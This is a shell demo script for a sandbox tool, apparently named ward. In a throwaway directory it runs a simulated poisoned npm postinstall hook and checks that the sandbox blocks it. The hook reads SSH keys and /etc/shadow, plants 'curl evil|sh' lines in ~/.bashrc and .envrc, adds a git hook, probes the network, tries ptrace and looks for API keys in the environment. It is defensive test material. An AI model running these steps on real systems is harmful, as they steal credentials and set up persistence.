#!/bin/sh
# `make demo`: ward on the built-in default profile, against a script that behaves like a
# poisoned postinstall hook. Everything happens in a throwaway directory; nothing of yours is
# read or changed.
set -u
WARD=${1:-build/bin/ward}
WARD=$(cd "$(dirname "$WARD")" && pwd)/$(basename "$WARD")
demo=$(mktemp -d /tmp/ward-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT
mkdir -p "$demo/home/.ssh" "$demo/project"
echo "-----BEGIN OPENSSH PRIVATE KEY----- demo-canary-7c1e -----END OPENSSH PRIVATE KEY-----" \
  > "$demo/home/.ssh/id_ed25519"
chmod 700 "$demo/home/.ssh"; chmod 600 "$demo/home/.ssh/id_ed25519"
echo 'console.log("hello")' > "$demo/project/index.js"
git -C "$demo/project" init -q 2>/dev/null || mkdir -p "$demo/project/.git/hooks"
# A host to try: the npm registry this machine is configured with (or a documentation address).
host=$(npm config get registry 2>/dev/null | sed -E 's#^[a-z]+://([^/:]+).*#\1#')
[ -n "$host" ] || host=192.0.2.1
addr=$(getent ahostsv4 "$host" 2>/dev/null | awk 'NR==1 {print $1}')
[ -n "$addr" ] || addr=192.0.2.1

cat > "$demo/project/postinstall.sh" <<'SCRIPT'
#!/bin/sh
# What a poisoned dependency would try. Each line prints what happened.
try() { label=$1; shift; if out=$("$@" 2>&1); then echo "  [ESCAPED] $label: $out"; else echo "  [blocked] $label: $(echo "$out" | tail -1)"; fi; }
allowed() { label=$1; shift; if out=$("$@" 2>&1); then echo "  [allowed] $label: $out"; else echo "  [failed]  $label: $(echo "$out" | tail -1)"; fi; }
echo "inside: uid=$(id -u) host=$(hostname) pid=$$ cwd=$(pwd)"
try "read ~/.ssh/id_ed25519      " cat "$HOME/.ssh/id_ed25519"
try "list ~/.ssh                 " ls "$HOME/.ssh"
try "read /etc/shadow            " head -c 40 /etc/shadow
try "write /etc/ward-demo        " sh -c 'echo pwned > /etc/ward-demo'
try "plant ~/.bashrc on the host " sh -c 'echo "curl evil|sh" >> ~/.bashrc && echo "(written to the private HOME, gone after the run)" && false'
try "plant a git hook            " sh -c 'mkdir -p .git/hooks 2>&1 && echo x > .git/hooks/pre-commit'
try "create .envrc               " sh -c 'echo "curl evil|sh" > .envrc'
try "connect to $NET_ADDR:443 " python3 -c "import socket,sys; socket.create_connection((sys.argv[1], 443), timeout=3); print('connected')" "$NET_ADDR"
try "connect with curl           " curl -sS --max-time 3 -o /dev/null "https://$NET_HOST/"
try "ptrace the parent           " sh -c 'command -v strace >/dev/null || { echo "(no strace; using gdb-free probe)"; python3 -c "import ctypes,os; r=ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0); e=ctypes.get_errno(); print(\"ptrace:\", r, os.strerror(ctypes.get_errno())); exit(0 if r==0 else 1)"; exit $?; }; strace -p $PPID -o /dev/null'
try "see the API key in env      " sh -c 'env | grep -i api_key || { echo "not in the environment"; false; }'
allowed "write the workspace         " sh -c 'echo built > build.txt && echo "build.txt written (allowed: it is the workspace)"'
SCRIPT
chmod +x "$demo/project/postinstall.sh"

echo "== ward check"
"$WARD" check | tail -3
echo
echo "== running postinstall.sh under 'ward run' (profile: default)"
cd "$demo/project"
env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$demo/home" TERM="${TERM:-dumb}" \
    ANTHROPIC_API_KEY=sk-demo-secret NET_HOST="$host" NET_ADDR="$addr" \
    XDG_STATE_HOME="$demo/state" \
    "$WARD" run -e NET_HOST -e NET_ADDR -- ./postinstall.sh
echo "ward exit status: $?"
echo
echo "== afterwards, on the host"
[ -e /etc/ward-demo ] && echo "  /etc/ward-demo EXISTS" || echo "  /etc/ward-demo: absent"
[ -e "$demo/home/.bashrc" ] && echo "  ~/.bashrc EXISTS" || echo "  ~/.bashrc: absent"
[ -e "$demo/project/.envrc" ] && echo "  .envrc EXISTS" || echo "  .envrc: absent"
[ -e "$demo/project/.git/hooks/pre-commit" ] && echo "  git hook EXISTS" || echo "  .git/hooks/pre-commit: absent"
[ -e "$demo/project/build.txt" ] && echo "  build.txt: present (workspace writes are kept)"
echo
echo "== the audit trail of that run"
XDG_STATE_HOME="$demo/state" "$WARD" audit list 2>/dev/null | head -3
XDG_STATE_HOME="$demo/state" "$WARD" audit verify --all 2>/dev/null | tail -1
echo
echo "== ward why"
env HOME="$demo/home" "$WARD" why "$demo/home/.ssh/id_ed25519" "$host:443" | sed 's/^/  /'
